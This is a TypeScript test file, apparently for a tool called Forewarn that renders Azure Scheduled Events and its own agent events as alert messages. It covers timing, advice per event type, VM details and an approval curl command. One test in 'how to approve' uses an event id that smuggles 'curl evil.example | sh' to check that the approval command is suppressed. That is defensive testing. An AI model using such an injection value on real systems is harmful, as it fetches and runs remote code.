import { describe, expect, it } from "vitest";
import { asSeen } from "../fixtures/as-seen.ts";
import { noon, own, scheduled, vm } from "../fixtures/events.ts";
import { type RenderOptions, createRender } from "./render.ts";
import { createStories } from "./stories.ts";
import type { ForewarnEvent, ScheduledEventData } from "@forewarn/sdk";

const seen = (event: ForewarnEvent, options: RenderOptions = {}, now = noon) =>
  asSeen(createRender(options, createStories())(event, now).rich);
const of = (different: Partial<ScheduledEventData>, now = noon) => seen(scheduled(different), {}, now);

describe("when", () => {
  it.each([
    [{}, noon, "in 15 min", "2026-11-22 12:15:00 UTC* or later (in 15 min)"],
    [{}, noon + 899_500, "due now", "*At any moment*: it was due 2026-11-22 12:15:00 UTC (now)"],
    [{}, noon + 1_000_000, "due now", "(1 min 40 s ago)"],
    [{ notBefore: null }, noon, "at an unknown time", "*At any moment*: Azure does not say when"],
    [{ phase: "updated", changed: [] }, noon, "changed, still in 15 min", "or later"],
    [{ phase: "updated", changed: ["notBefore"] }, noon, "moved: now in 15 min", "or later"],
    [{ phase: "updated", changed: ["status"] }, noon, "is announced again, in 15 min", "or later"],
    [{ phase: "updated", status: "Started" }, noon, "changed while under way", "Under way"],
  ] as const)("%j", (different, now, title, line) => {
    const text = of(different as Partial<ScheduledEventData>, now);
    expect(text.split("\n")[0]).toBe(`# 🔴 Reboot of web-01 ${title}`);
    expect(text).toContain(line);
  });

  it("says that an approved event may start now", () => {
    const text = of({ phase: "approved", approval: { by: "policy", rule: "after drain" } });
    expect(text).toContain("Reboot of web-01 may start now");
    expect(text).toContain("*At any moment*: Azure was told that it may start");
    expect(text).toContain("Its start was approved by the policy (after drain).");
  });
});

describe("what to do", () => {
  it.each([
    ["Freeze", 5, "stands still for about 5 s", "usually nothing"],
    ["Freeze", null, "stands still for a moment", "usually nothing"],
    ["Freeze", 0, "not interrupted", "nothing."],
    ["reboot", null, "restarts", "drain it"],
    ["Redeploy", null, "temporary disk are lost", "save what is on the temporary disk"],
    ["Preempt", null, "Azure takes this spot VM away", "drain now"],
    ["Terminate", null, "is deleted", "save what exists only there"],
    ["SomethingNew", 9, "does not know this type", "expect an interruption"],
    ["constructor", 9, "does not know this type", "expect an interruption"],
  ])("%s of %s s", (eventType, durationSeconds, meaning, advice) => {
    const text = of({ eventType, durationSeconds });
    expect(text).toContain(meaning);
    expect(text).toContain(advice);
  });

  it.each([
    ["Platform", "caused by *Azure*"],
    ["User", "caused by a *user* of the subscription"],
    ["Robot", "caused by `Robot`"],
    [null, "cause unknown"],
  ])("by %s", (eventSource, words) => {
    expect(of({ eventSource })).toContain(words);
  });
});

describe("how to approve", () => {
  const command = `curl -H Metadata:true -d '{"StartRequests":[{"EventId":"602D9444-D2CD-49C7-8624-8643E7171297"}]}' 'http://169.254.169.254/metadata/scheduledevents?api-version=2020-07-01'`;

  it("is told while an event waits", () => {
    expect(of({})).toContain(command);
    expect(of({ phase: "updated", notBefore: null })).toContain(command);
    expect(of({ resources: ["web-01", "web-02"] })).toContain("for all 2 VMs at once");
  });

  it.each([
    ["it has started", { phase: "started" }, noon],
    ["it is over", { phase: "completed" }, noon],
    ["its time has come", {}, noon + 900_000],
    ["it concerns other VMs", { affectsSelf: false }, noon],
    ["its status is none that can be approved", { status: "Paused" }, noon],
    ["its id would be a command of its own", { eventId: "x'; curl evil.example | sh #" }, noon],
  ] as const)("is not told where %s", (_, different, now) => {
    expect(of(different, now)).not.toContain("curl -H");
  });
});

describe("which VM", () => {
  it("shows the tags that were chosen, by name or glob, in any case", () => {
    const tags = { Team: "payments", "cost-center": "4711", "cost.center": "x", env: "prod" };
    const event = scheduled({ vm: { ...vm, tags } });
    expect(seen(event)).not.toContain("Tags");
    expect(seen(event, { tags: ["team", "COST-*"] })).toContain("*Tags*  `Team=payments` `cost-center=4711`");
    expect(seen(event, { tags: ["*"] })).toContain("`env=prod`");
  });

  it("says all that is known, and nothing of the rest", () => {
    const text = of({});
    for (const part of [
      "*VM*  `web-01`",
      "*Region*  `westeurope` zone `2`",
      "`Standard_D4s_v5`",
      "*Scale set*  `web`",
    ])
      expect(text).toContain(part);
    const nobody = { name: null, location: null, zone: null, size: null, scaleSet: null };
    const bare = of({ vm: { ...vm, ...nobody } });
    expect(bare).toContain("*VM*  `web-01`");
    expect(bare).not.toMatch(/Region|Size|Scale|null/);
  });

  it("of many names the own first, then others", () => {
    const text = of({ resources: ["db-01", "WEB-01", "db-02"] });
    expect(text.split("\n")[0]).toBe("# 🔴 Reboot of web-01 and 2 more in 15 min");
    expect(text).toContain("*Also affects*  `db-01` `db-02`");
  });

  it("with long names still says when", () => {
    const resources = ["a", "b"].map((letter) => letter.repeat(80));
    const event = scheduled({ resources, affectsSelf: false, simulated: true, eventType: "Preempt" });
    expect(seen(event).split("\n")[0]).toMatch(/^# 🔴 SIMULATED: Spot eviction .* in 15 min$/);
  });

  it("of others says so", () => {
    const text = of({ affectsSelf: false, resources: ["db-01"], impact: "info" });
    expect(text).toContain("*Affects*  `db-01`");
    expect(text).toContain("*Observed by*  `web-01`");
    expect(text).toContain("*Do:* nothing on `web-01`");
  });

  it("without any name still makes a message", () => {
    expect(of({ resources: [], vm: { ...vm, name: null } }).split("\n")[0]).toBe(
      "# 🔴 Reboot of unnamed VMs in 15 min",
    );
  });
});

describe("events of Forewarn's own", () => {
  it.each([
    [
      "imds.unreachable",
      "WARN",
      { since: "2026-11-22T11:58:00Z", message: "no <answer>" },
      "🟠 Forewarn on web-01 gets no answer from Azure",
      "no <answer>",
    ],
    [
      "imds.recovered",
      "INFO",
      { downMs: 95_000 },
      "✅ Forewarn on web-01 gets answers from Azure again",
      "1 min 35 s",
    ],
    [
      "agent.started",
      "INFO",
      { version: "1.2.3", gapMs: 7_200_000 },
      "🔵 Forewarn watches web-01",
      "Nobody had watched for 2 h",
    ],
    ["agent.stopped", "INFO", { uptimeMs: 7_200_000 }, "🔵 Forewarn no longer watches web-01", "after 2 h"],
    [
      "sink.paused",
      "ERROR",
      { sink: "stream", message: "the key is wrong" },
      "🔴 Sink stream on web-01 is paused",
      "the key is wrong",
    ],
    [
      "sink.resumed",
      "INFO",
      { sink: "stream", pausedMs: 60_000 },
      "✅ Sink stream on web-01 works again",
      "1 min",
    ],
    [
      "instance.observed",
      "INFO",
      { reason: "start", instance: {} },
      "🔵 web-01 as Azure describes it",
      "web-01, ",
    ],
    [
      "instance.changed",
      "INFO",
      { changes: [{ path: "/compute/tags/<b>", from: null, to: "a & b" }] },
      "🔵 web-01 has changed",
      "tag <b> added, is a & b",
    ],
    [
      "agent.heartbeat",
      "INFO",
      { uptimeMs: 7_200_000, sinks: [{ name: "ops", pending: 2 }] },
      "🔵 Forewarn on web-01 is alive",
      "up for 2 h, waiting: 2 for ops",
    ],
    [
      "agent.stalled",
      "WARN",
      { gapMs: 9000, scheduledEvent: { eventType: "Freeze", durationSeconds: 5 } },
      "🟠 web-01 stood still for 9 s",
      "Azure expected 5 s for its Freeze",
    ],
    [
      "agent.stalled",
      "WARN",
      { gapMs: 9000, clock: "wall", scheduledEvent: null },
      "🟠 web-01 stood still for 9 s, or its clock was set",
      "Forewarn stood still for 9 s, or its clock was set.",
    ],
    [
      "instance.vanished",
      "INFO",
      { changed: ["/size"] },
      "🔵 instance.vanished of web-01",
      `{"changed":["/size"]}`,
    ],
  ] as const)("%s", (name, severity, data, title, words) => {
    const text = seen(own(name, severity, data));
    expect(text.split("\n")[0]).toBe(`# ${title}`);
    expect(text).toContain(words);
    expect(text).toContain(`io.forewarn.${name}`);
  });

  it.each([
    { data: undefined },
    { data: null },
    { data: "text" },
    { data: { vm: null } },
    { data: { vm: { tags: null } } },
  ])("an unknown one with %j", (different) => {
    const event = { ...own("yet.unknown", "INFO", {}), ...different } as unknown as ForewarnEvent;
    expect(seen(event).split("\n")[0]).toBe("# 🔵 yet.unknown");
  });
});
